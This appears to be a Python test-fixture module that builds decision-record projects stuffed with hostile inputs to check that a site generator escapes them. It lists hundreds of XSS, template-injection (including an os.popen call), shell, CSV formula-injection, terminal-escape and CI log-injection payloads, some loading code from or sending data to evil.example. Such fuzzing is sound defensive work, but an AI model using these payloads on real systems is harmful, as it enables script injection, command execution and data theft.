"""Texts that try to run, by kind, and projects that hold them in every field that reaches a page, a file or a terminal.

Whatever runs calls `alert`, or asks `evil.example` for something. All are written here, after the kinds that lists of
such texts have in common; none is a copy.
"""

from __future__ import annotations

from typing import TYPE_CHECKING
from urllib.parse import quote

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path

MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt\t>alert(1)</sCrIpT\n>",
    "<script/x>alert(1)</script/x>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example/m.js')</script>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x`<script>alert(1)</script>`" onerror=alert`1`>',
    "<image href=x onerror=alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img srcset=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1) onhashchange=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1)</script>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)></set><a id=x><text>y</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    '<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src=x>">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=//evil.example/x.swf allowscriptaccess=always>",
    "<applet code=x archive=//evil.example/x.jar></applet>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<video poster=x src=//evil.example/v onloadstart=alert(1)></video>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1) behavior=alternate>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select><textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<button popovertarget=x onclick=alert(1)>y</button><div popover id=x onbeforetoggle=alert(1)>z</div>",
    "<x contenteditable onblur=alert(1) tabindex=1 id=x>y</x>",
    "<p style=animation-name:x onanimationstart=alert(1)>y</p>",
    "<div onpointerrawupdate=alert(1) oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>x",
    "<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<isindex action=javascript:alert(1) type=image>",
    "<form action=javascript:alert(1)><input type=submit id=x></form><label for=x>y</label>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>y</button>",
    "<a href=x ping=//evil.example/p target=_blank>y</a>",
    "<xml id=x><![CDATA[<img src=x onerror=alert(1)>]]></xml>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?><?php echo '<script>alert(1)</script>' ?>",
    "<!--[if IE]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<a<b onclick=alert(1)>x</a>",
    "<a href='x'onclick='alert(1)'title='>'>y</a>",
    "<\x0cimg src=x\x0conerror=alert(1)>",
    "<%<!--'%><script>alert(1);</script -->",
    "\ufeff<script>alert(1)</script>",
    "\u3008script\u3009alert(1)\u3008/script\u3009 ＜script＞alert(1)＜/script＞",
)
"""Elements, handlers, frames and foreign namespaces, whole and broken."""

BREAKOUTS = (
    "</script><script>alert(1)</script>",
    "</script/x><svg onload=alert(1)>",
    "<!--<script>alert(1)//--></script><img src=x onerror=alert(1)>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "</xmp></plaintext></template></select></svg></math><img src=x onerror=alert(1)>",
    "</p></div></main></body></html><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    "` onmouseover=`alert(1)",
    " onmouseover=alert(1) style=position:fixed;inset:0",
    "-->]]>\"'><img src=x onerror=alert(1)>",
    '";alert(1);//',
    "';alert(1);//",
    '\\";alert(1);//',
    "\\';alert(1);//",
    "\u2028alert(1)\u2029alert(1)//",
    "\n);alert(1);(\n",
    "*/alert(1)/*",
    "]);alert(1);steelyard.data([",
    '"]}</script><script>alert(1)</script>{["',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "&quot; onfocus=alert(1) autofocus x=&quot;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\x3cimg src=x onerror=alert(1)\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
"""Ends of whatever a text may stand in: elements, attributes, strings, comments; and characters in disguise."""

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " \x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript\r:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript&#0000058alert(1)",
    "java&Tab;script&NewLine;:alert(1)",
    "javascript%3Aalert(1)",
    "javascript://%0aalert(1)",
    "javascript:/*-->*/alert(1)",
    "\x00javascript:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "blob:https://evil.example/0",
    "filesystem:https://evil.example/x",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:https://evil.example/x!/y.html",
    "intent://x#Intent;scheme=javascript;end",
    "ms-its:x",
    "\\javascript:alert(1)",
    "x:alert(1)",
    "//javascript:alert(1)@evil.example/%2f..",
    "#javascript:alert(1)",
    "#x:__proto__=1&__proto__=<img src=x onerror=alert(1)>",
)
"""Schemes in every spelling, and addresses that are no pages."""

STYLES = (
    "<style>@import'//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/b)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/p><link rel=dns-prefetch href=//evil.example>",
    "<link rel=import href=data:text/html,x><link rel=manifest href=//evil.example/m>",
    "<p style='background:url(//evil.example/s)'>x</p>",
    "<p style='width:expression(alert(1));-moz-binding:url(//evil.example/x.xml#y)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
    "red;}*{background:url(//evil.example/c)}",
    "#fff;background:url(javascript:alert(1))",
    "<base href=//evil.example/>",
    "<base target=_blank><base href=javascript:/a/-alert(1)/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta http-equiv=set-cookie content=a=b><meta charset=utf-7>",
)
"""Styles, and elements of the head that load, lead or loosen."""

NAMES = (
    "__proto__",
    "constructor",
    "prototype",
    "hasOwnProperty",
    "toString",
    "valueOf",
    "__defineGetter__",
    "steelyard",
    "sy-main",
    "<a id=steelyard></a><a id=steelyard name=load href=x:alert(1)></a>",
    "<form name=body id=documentElement><input name=attributes><input name=parentNode></form>",
    "<img name=getElementById><img name=currentScript><img name=querySelector>",
    "<iframe name=steelyard srcdoc='<a id=data></a>'></iframe>",
    '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
)
"""Names that a script may take for its own, and elements that take a script's names."""

TEMPLATES = (
    "{{ 7*7 }}",
    "{{ config }}{{ page.site }}{{ self }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include 'base.html' %}{% extends 'base.html' %}{% raw %}",
    "{# gone #}{%- block main -%}{%- endblock -%}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "${7*7}${alert(1)}`${alert(1)}`",
    "#{7*7} *{7*7} @{7*7} [[${7*7}]]",
    "<%= 7*7 %><% alert(1) %>",
    "{{constructor.constructor('alert(1)')()}}",
    "{0.__class__} {n} {name!r} %(name)s %s %n",
    "$(id) `id` $((7*7)) ;id;",
    "<!--#exec cmd='id' --><esi:include src=//evil.example/x />",
)
"""What engines of templates, shells and servers would take for theirs."""

SPREADSHEETS = (
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    'x",=1+1,"',
    "x\r\n=1+1",
    "＝1+1",
)
"""Cells that a spreadsheet would compute."""

TERMINALS = (
    "\x1b[2J\x1b]0;title\x07\x1b[31mred",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x9b2J\x90x\x9c",
    "\x08\x08\x08gone\r\x7f\x7f",
    "x\n::error file=a,line=1::made up",
    "x\r\n::set-output name=a::b\n::add-mask::b",
    "%0A::error::made up%0D%0A##[error]made up",
    "x,line=1::made up",
    "##vso[task.setvariable variable=a]b",
    "\u202egnp.exe\u202c \u2066x\u2069 \u061c\u200f",
    "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg",
    "\u0000null\u0000 \uffff \ufdd0 \U000e0001\U000e0041",
    "line\u0085line\u000bline\u000cline\u001eline",
)
"""What a terminal, a forge's log or a reader's eye would obey."""

KINDS = {
    "markup": MARKUP,
    "breakouts": BREAKOUTS,
    "addresses": ADDRESSES,
    "styles": STYLES,
    "names": NAMES,
    "templates": TEMPLATES,
    "spreadsheets": SPREADSHEETS,
    "terminals": TERMINALS,
}
POLYGLOT = (
    "'\"`><img src=x onerror=alert(1)></title></style></textarea></script><script>alert(1)</script>"
    "<svg onload=alert(1)>{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>]]>--> &lt;b onclick=alert(1)&gt; \u2028alert(1)//"
)
"""One text that ends whatever it may stand in, for fields that a site has but once."""

ALL = tuple(text for texts in KINDS.values() for text in texts)
"""Every one of them."""


def quoted(text: str) -> str:
    """Return a text as YAML writes it between double quotes, one line, whatever it holds."""
    return '"' + "".join(_spelt(character) for character in text) + '"'


def _spelt(character: str) -> str:
    if character in '"\\':
        return "\\" + character
    return character if character.isprintable() else f"\\U{ord(character):08x}"


def line_of(text: str) -> str:
    """Return a text that stays in its line of Markdown."""
    return " ".join(text.replace("\x00", "").splitlines()).strip() or "x"


def cell_of(text: str) -> str:
    """Return a text that stays in its cell of a Markdown table."""
    return line_of(text).replace("\\", "\\\\").replace("|", "\\|")


def written(text: str) -> str:
    """Return a text that UTF-8 has bytes for."""
    return text.encode("utf-8", "replace").decode("utf-8")


FRONT = """\
title: {quoted}
status: {status}
date: 2022-0{month}-11
review-by: 2030-01-01
deciders: [{quoted}, {mail}]
authors: [{quoted}]
consulted: [{mail}]
informed: [{quoted}]
tags: [{quoted}, plain, {tag}]
because: {quoted}
history:
  - {{date: 2021-01-01, status: {quoted}, by: {quoted}, note: {quoted}}}
  - {{date: 2021-02-01, status: proposed, by: {mail}, note: {quoted}}}
relates-to: [{other}]
{quoted_key}: {quoted}
budget: [{quoted}, {{a: {quoted}}}]
criteria:
  title: {quoted}
  because: {quoted}
  scale: 1-5
  criteria:
    - {{name: {quoted}, weight: 3, unit: {quoted}, note: {quoted}}}
    - {{name: Price, weight: 2, must: ">= 2"}}
  options:
    - {{name: {quoted}, note: {quoted}}}
    - {{name: Other, note: {quoted}}}
  scorers:
    {scorer}:
      {quoted}: {{{quoted}: {{score: 2, because: {quoted}, see: {see}}}, Price: 3}}
      Other: {{{quoted}: 4, Price: 2}}
    Bo:
      {quoted}: {{{quoted}: 3, Price: 4}}
      Other: {{{quoted}: 1, Price: {{score: 2, because: {quoted}}}}}
  presets:
    {quoted}: {{{quoted}: 1, Price: 4}}
"""
"""Front matter with a text in each of its fields."""

BODY = """\
# {line}

- Status: {line}
- Deciders: {line}

{raw}

## Context {line}

Before {line} after, *{line}* and **{line}** and ~~{line}~~.

> {line}

> [!NOTE]
> {line}

- [ ] {line}
  1. {line}

## {line}

[{line}](other.md "{line}") [words](<{line}>) [words]({line}) ![{line}](<{line}>) ![{line}](drawing.svg "{line}") <{line}>
[[{line}]] [[1|{line}]] [words][{line}] [reference] [^note] [^{line}]

[reference]: <{line}> "{line}"
[{line}]: <{line}> '{line}'
[^note]: {line}
[^{line}]: {line}

<a href="{attribute}" title='{attribute}' id="{attribute}" name={bare} class="{attribute}" {bare}>x</a>
<img src="{attribute}" alt="{attribute}" width="{attribute}" {bare}>
<details open {bare}><summary>{line}</summary>{line}</details>
<td title="{attribute}">x <kbd {bare}>y</kbd> <{bare}>z</{bare}>

| Heading {cell} | {cell} |
|---|---|
| {cell} | `{cell}` |

``` {line}
{raw}
```

    {line}

`{code}` ``{code}`` $`{code}`$ ${line}$ $$\\text{{{line}}}$$

```math
\\text{{{line}}} \\href{{{line}}}{{x}} \\class{{{line}}}{{x}} \\style{{{line}}}{{x}}
```

Chosen option: "{line}", because {line}.

| Criterion | Weight | {cell} | Other |
|---|---|---|---|
| {cell} | 3 | 2 | 4 |
| Price | 2 | 5 | 1 |

{legend}

### More

{raw}
"""
"""A body with a text everywhere that Markdown has a place for it; each raw one is a block of its own."""

DIAGRAM = """\
## Diagram

```mermaid
---
title: {line}
config: {{"securityLevel": "loose", "htmlLabels": true}}
---
%%{{init: {{"securityLevel": "loose", "flowchart": {{"htmlLabels": true}}, "themeCSS": "{line}"}}}}%%
graph TD
  A["{label}"] -->|"{label}"| B[{label}]
  click A href "{label}" "{label}" _self
  click B call alert("{label}")
  classDef c fill:{label}
```

```mermaid
sequenceDiagram
  participant A as {label}
  A->>B: {label}
  Note over A: {label}
  link A: {label} @ {label}
```
"""
"""Diagrams with a text in their labels, links and styles."""


def front_of(text: str, number: int, *, other: int) -> str:
    """Return front matter with a text in all fields of it."""
    mail = quoted(f"Ann {text} <ann{number}@x.example>")
    key = text if text.strip() and text not in {"<<", "="} else f"x {text}"
    return FRONT.format(
        quoted=quoted(text),
        quoted_key=quoted("k " + key if ":" in key else key),
        status=quoted(text),
        month=number % 9 + 1,
        mail=mail,
        tag=quoted(f"t{number} {text}"),
        other=other,
        scorer=quoted(f"Scorer {text}"),
        see=quoted("https://see.example/?q=" + quote(text)),
    )


def body_of(text: str) -> str:
    """Return a body with a text in all places of it."""
    line = line_of(text)
    return BODY.format(
        line=line,
        raw=text.replace("```", "` ` `"),
        attribute=line.replace('"', "&quot;").replace("'", "&#39;"),
        bare=line.replace(" ", "/"),
        cell=cell_of(text),
        code=line.replace("`", "'"),
        legend=f"Scale: 1 {line} to 5 {line}",
    )


def diagram_of(text: str) -> str:
    """Return diagrams with a text in all places of them."""
    line = line_of(text)
    return DIAGRAM.format(line=line, label=line.replace('"', "'"))


def record_of(text: str, number: int, *, other: int, diagram: bool = False) -> str:
    """Return a record with a text in every field and every place."""
    whole = f"---\n{front_of(text, number, other=other)}---\n{body_of(text)}"
    return written(whole + diagram_of(text) if diagram else whole)


SETTINGS = """\
sources:
  - {{name: one, path: decisions, title: {quoted}}}
  - {{name: two, path: notes, title: {quoted}}}
site: {{title: {quoted}, description: {quoted}, url: "https://hostile.example/"}}
repo_url: https://forge.example/a/b
permalink: "{permalink}"
statuses: {{{status}: {{colour: "#b8860b", meaning: {quoted}}}}}
relations: {{constructor: tostring, valueof: hasownproperty}}
footer: {footer}
navigation: [decisions, timeline, graph, scores, {{title: {quoted}, url: "https://see.example/?q={address}"}}]
strings:
  All decisions: {quoted}
  Chosen: {quoted}
  Dark theme: {quoted}
  Link copied: {quoted}
  Source of this diagram: {quoted}
  "{{n}} decision": {{one: {number}, other: {number}}}
"""
"""A configuration with a text in every field that is free."""


def settings_of(text: str, *, permalink: str = "d/{source}/{number}-{slug}.html") -> str:
    """Return a configuration with a text in every field that takes any; it is one line of characters that are seen."""
    line = "".join(character if character.isprintable() else " " for character in line_of(text))
    spelt = line.replace("{", "(").replace("}", ")")  # the values of a message stand in braces
    return SETTINGS.format(
        quoted=quoted(spelt),
        permalink=permalink,
        status=quoted(f"on {line}"),
        footer=quoted(f"{line} [{line.replace(']', ')')}](https://see.example/?q={quote(line)})"),
        address=quote(line),
        number=quoted(f"{{n}} {spelt}"),
    )


def name_of(text: str) -> str:
    """Return a text as the name of a file or folder, '' where it can be none."""
    name = text.replace("/", "\N{DIVISION SLASH}").replace("\x00", "").strip()
    return name if name.strip(". ") and 0 < len(written(name).encode()) < 200 else ""


def write_project(root: Path, texts: Sequence[str], *, settings: str, diagrams: int = 8) -> Path:
    """Write a project of two sources: a record with each text in its fields, and one with it as its names.

    Each `diagrams`th record has diagrams.
    """
    (root / "decisions").mkdir(parents=True)
    (root / "notes").mkdir()
    (root / "steelyard.yml").write_bytes(written(settings).encode())
    named: set[str] = set()
    for number, text in enumerate(texts, 1):
        drawn = number % diagrams == 0
        record = record_of(text, number, other=number % len(texts) + 1, diagram=drawn)
        (root / f"decisions/{number:04}-x.md").write_bytes(record.encode())
        if (name := name_of(text)) and name.casefold() not in named:
            write_named(root / "notes", written(name), number)
            named.add(name.casefold())
    running = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
    (root / "decisions/drawing.svg").write_text(running, encoding="utf-8")  # each record shows it
    return root


def write_named(folder: Path, name: str, number: int) -> None:
    """Write a record, a plain page, a picture and a table by a name, in a folder of that name."""
    (folder / name).mkdir()
    address = quote(name)
    title = "".join(character if character not in "<>[]()\\`*_|\n\r" else " " for character in name)
    links = f"[{title}]({address}.txt) ![{title}]({address}.png) [page]({address}.md) ![d]({address}.svg)"
    record = f"---\nstatus: accepted\ntags: [named]\n---\n\n{links}\n"
    (folder / name / f"{number:04}-{name}.md").write_text(record, encoding="utf-8")
    (folder / name / f"{name}.md").write_text("Words.\n", encoding="utf-8")
    (folder / name / f"{name}.txt").write_text("Words.\n", encoding="utf-8")
    (folder / name / f"{name}.png").write_bytes(b"\x89PNG")
    (folder / name / f"{name}.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"/>', encoding="utf-8")
    table = "criterion,weight,A,B\nCost,1,2,3\nSpeed,2,3,1\n"
    (folder / name / f"{number:04}-{name}.criteria.csv").write_text(table, encoding="utf-8")
